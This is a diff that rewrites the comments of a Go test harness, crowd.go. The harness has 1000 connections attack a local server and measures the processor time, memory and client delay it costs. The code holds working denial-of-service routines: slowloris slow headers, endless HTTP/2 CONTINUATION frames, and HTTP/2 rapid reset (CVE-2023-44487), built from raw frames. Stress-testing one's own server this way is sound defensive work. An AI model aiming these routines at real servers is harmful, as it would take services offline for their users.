@@ -14,16 +14,20 @@ import (
 	"time"
 )
 
-// What a crowd of connections that mean no good may take: of the processors, one, and memory.
+// crowd.go measures attacks by many connections (-crowd): slow headers, and HTTP/2 rapid reset
+// (CVE-2023-44487).
+
+// The size of a crowd, and the processor time and memory that it may take from the server.
 const (
 	crowdSize  = 1000
-	crowdCores = 1.0
-	crowdBytes = 64 << 20
+	crowdCores = 1.0      // processors
+	crowdBytes = 64 << 20 // bytes more than before
 
-	sendBuffer = 16 << 10 // of each
+	sendBuffer = 16 << 10 // bytes, of each connection
 )
 
-// crowd has many connections do each thing at once, for a while, and looks at what that takes.
+// crowd lets crowdSize connections do each mischief for a while, and prints what it costs the
+// server.
 func (p *plan) crowd(ctx context.Context, coracle *process) error {
 	fmt.Printf("%-28s %12s %8s %12s %14s\n", "1000 connections with", "made", "cores", "MiB", "bystander")
 	dear := 0
@@ -47,8 +51,8 @@ func (p *plan) crowd(ctx context.Context, coracle *process) error {
 	return nil
 }
 
-// mischief is what one of the crowd does until ctx ends, once it is connected. It tells made of
-// each thing that it has done.
+// mischief is an attack. do runs it on one connection until ctx ends, and calls made for each
+// request or piece of a request.
 type mischief struct {
 	name string
 	next []string // protocols to offer
@@ -61,21 +65,21 @@ var mischiefs = []mischief{
 	{"rapid resets", []string{"h2"}, rapidResets},
 }
 
-// slowHeaders sends a header, a byte in a while, without an end.
+// slowHeaders sends a header that never ends, a byte every 100 ms (slowloris).
 func slowHeaders(ctx context.Context, conn net.Conn, made func()) error {
 	if _, err := conn.Write([]byte("GET /api/v1/secrets HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")); err != nil {
 		return nil
 	}
 	for sleep(ctx, 100*time.Millisecond) {
 		if _, err := conn.Write([]byte("a")); err != nil {
-			return nil // it was cut off
+			return nil // the server has closed the connection
 		}
 		made()
 	}
 	return nil
 }
 
-// slowFrames begins a block of headers and goes on with pieces that never end it.
+// slowFrames begins a block of HTTP/2 headers, and sends CONTINUATION frames that never end it.
 func slowFrames(ctx context.Context, conn net.Conn, made func()) error {
 	if greet(conn) != nil || frame(conn, headersFrame, 0, 1, []byte{0x82}) != nil {
 		return nil
@@ -89,18 +93,18 @@ func slowFrames(ctx context.Context, conn net.Conn, made func()) error {
 	return nil
 }
 
-// rapidResets asks and takes it back at once, as fast as the server reads.
+// rapidResets sends requests and cancels each at once, as fast as the server reads.
 func rapidResets(ctx context.Context, conn net.Conn, made func()) error {
 	if greet(conn) != nil {
 		return nil
 	}
-	go io.Copy(io.Discard, conn) // what it answers, up to the end of the connection
+	go io.Copy(io.Discard, conn) // ends with the connection
 	// :method GET, :scheme https, :path /api/v1/secrets, :authority localhost
 	block := append([]byte{0x82, 0x87, 0x04, 15}, "/api/v1/secrets"...)
 	block = append(append(block, 0x01, 9), "localhost"...)
 	cancel := []byte{0, 0, 0, 8}
 	for id := uint32(1); ctx.Err() == nil && id < 1<<30; {
-		var together []byte // what costs the sender least
+		var together []byte // one write for many frames, to cost the sender little
 		for range resetsTogether {
 			together = appendFrame(together, headersFrame, endStream|endHeaders, id, block)
 			together = appendFrame(together, resetFrame, 0, id, cancel)
@@ -116,17 +120,17 @@ func rapidResets(ctx context.Context, conn net.Conn, made func()) error {
 	return nil
 }
 
-// resetsTogether are how many requests and their resets are sent at once.
+// resetsTogether is the number of requests, each with its reset, in one write.
 const resetsTogether = 64
 
-// Of HTTP/2: types of frames and their flags.
+// Types and flags of HTTP/2 frames (RFC 9113).
 const (
 	headersFrame, resetFrame, settingsFrame, continuationFrame = 1, 3, 4, 9
 
 	endStream, endHeaders = 1, 4
 )
 
-// greet begins HTTP/2.
+// greet sends the preface of HTTP/2 and empty settings.
 func greet(conn net.Conn) error {
 	if _, err := conn.Write([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")); err != nil {
 		return err
@@ -155,16 +159,16 @@ func sleep(ctx context.Context, d time.Duration) bool {
 	}
 }
 
-// crowdCost is what a crowd took.
+// crowdCost is the cost of a crowd to the server.
 type crowdCost struct {
-	made  int64
-	cores float64
-	bytes int64         // more than before, at most
-	worst time.Duration // that a bystander waited
+	made  int64         // calls of made
+	cores float64       // processor time per time
+	bytes int64         // the most memory above that before
+	worst time.Duration // the longest wait of another client
 }
 
-// measure has a crowd connect, and looks at the server while it acts. Whoever is cut off comes
-// again.
+// measure connects a crowd, lets it act, and measures the server meanwhile. A connection that is
+// closed connects again.
 func measure(ctx context.Context, coracle *process, m mischief, lasts time.Duration) (crowdCost, error) {
 	var cost crowdCost
 	ctx, cancel := context.WithCancel(ctx)
@@ -180,7 +184,7 @@ func measure(ctx context.Context, coracle *process, m mischief, lasts time.Durat
 	var connected sync.WaitGroup
 	connected.Add(crowdSize)
 	begin := make(chan struct{})
-	gate := make(chan struct{}, 32) // handshakes at once: those are not what is measured
+	gate := make(chan struct{}, 32) // bounds concurrent handshakes, which are not measured
 	for range crowdSize {
 		wg.Go(func() {
 			first := sync.OnceFunc(connected.Done)
@@ -197,7 +201,7 @@ func measure(ctx context.Context, coracle *process, m mischief, lasts time.Durat
 					continue
 				}
 				<-begin
-				// What is under way says nothing of the server, and takes the machine's memory.
+				// Bytes in the sender's buffer take memory and measure nothing.
 				if err := conn.(*tls.Conn).NetConn().(*net.TCPConn).SetWriteBuffer(sendBuffer); err != nil {
 					conn.Close()
 					return
@@ -206,7 +210,7 @@ func measure(ctx context.Context, coracle *process, m mischief, lasts time.Durat
 				m.do(ctx, conn, made)
 				stop()
 				conn.Close()
-				if !sleep(ctx, time.Second) { // come again, but not at once: a handshake costs the sender as much
+				if !sleep(ctx, time.Second) { // not at once: a handshake costs the sender as much
 					return
 				}
 			}
@@ -225,7 +229,7 @@ func measure(ctx context.Context, coracle *process, m mischief, lasts time.Durat
 	for time.Since(began) < lasts {
 		sent := time.Now()
 		a, err := s.send(ctx, &get)
-		if err != nil { // a connection that does nothing for a moment goes when there are too many
+		if err != nil { // with many connections, the server closes idle ones; try once more
 			a, err = s.send(ctx, &get)
 		}
 		if err != nil || a.Status != 200 {
@@ -246,7 +250,7 @@ func measure(ctx context.Context, coracle *process, m mischief, lasts time.Durat
 	return cost, err
 }
 
-// resident is the memory that the process has, in bytes.
+// resident returns the resident memory of the process, in bytes.
 func (p *process) resident() (int64, error) {
 	data, err := os.ReadFile(fmt.Sprintf("/proc/%d/statm", p.cmd.Process.Pid))
 	if err != nil {
